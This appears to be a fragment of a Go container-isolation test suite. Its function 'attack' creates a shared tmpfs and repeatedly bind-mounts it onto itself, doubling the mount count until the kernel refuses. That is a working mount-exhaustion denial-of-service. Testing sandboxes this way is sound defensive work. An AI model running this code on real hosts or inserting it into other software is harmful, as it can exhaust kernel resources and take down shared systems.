package main

import (
	"os"

	"golang.org/x/sys/unix"
)

// Doubles the number of mounts, again and again.
func attack(where string) {
	if where != "container" {
		return
	}
	os.MkdirAll("/tmp/a", 0o755)
	tried("mount", unix.Mount("a", "/tmp/a", "tmpfs", 0, ""))
	unix.Mount("", "/tmp/a", "", unix.MS_SHARED, "")
	var err error
	for err == nil {
		err = unix.Mount("/tmp/a", "/tmp/a", "", unix.MS_BIND|unix.MS_REC, "")
	}
	tried("double the mounts", err)
}
